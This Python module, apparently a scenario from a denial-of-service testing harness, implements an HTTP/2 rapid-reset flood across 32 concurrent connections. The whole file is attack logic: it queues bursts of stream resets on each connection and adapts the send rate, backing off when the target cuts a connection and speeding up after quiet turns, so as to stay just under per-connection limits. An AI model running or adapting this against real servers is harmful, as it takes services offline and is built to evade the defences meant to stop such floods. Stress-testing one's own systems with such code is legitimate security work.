"""Rapid reset from many connections, each just slow enough not to be cut off."""

import itertools
import random
import time

from rapid_reset import resets, single
from target import Cut

WAYS = ("tls", "crowd")
FLOOR = {"streams": 200}
CONNECTIONS = 32
EACH_TURN = 4
TICK_S = 0.05
BYTES_PER_STREAM = 32
# Of a connection, in bytes a second. Who is cut off is barred: the limit is looked for from below.
RATE_FIRST, RATE_MIN = BYTES_PER_STREAM / TICK_S, 64
SLOWER, FASTER, FASTER_TURNS = 0.7, 1.1, 20


def attack(target):
    numbers = itertools.count()
    connections = []
    rate = RATE_FIRST
    turn = 0
    while True:
        target.left()
        began = time.monotonic()
        cut = 0
        # A few more a turn, so that nobody is kept waiting by what can't be had.
        for _ in range(min(EACH_TURN, CONNECTIONS - len(connections))):
            cut += not connect(target, connections, next(numbers))
        for connection in list(connections):
            try:
                send_some(connection, rate)
            except Cut as end:
                connections.remove(connection)
                connection.close()
                target.cut(end)
                cut += 1
        turn += 1
        if cut:
            rate = max(RATE_MIN, rate * SLOWER)
        elif turn % FASTER_TURNS == 0:
            rate *= FASTER
        time.sleep(max(0.0, min(target.left(), began + TICK_S - time.monotonic())))


def connect(target, connections, number):
    try:
        connection = target.connect(number)
    except Cut as end:
        target.cut(end)
        return False
    for _ in range(2):
        connection.queue(single(connection))
    connections.append(connection)
    return True


def send_some(connection, rate):
    connection.discard()
    streams = int(rate * TICK_S / BYTES_PER_STREAM + random.random())
    if streams > 0 and connection.queued < rate:
        connection.queue(resets(connection, streams))
        connection.count("streams", streams)
    connection.flush()
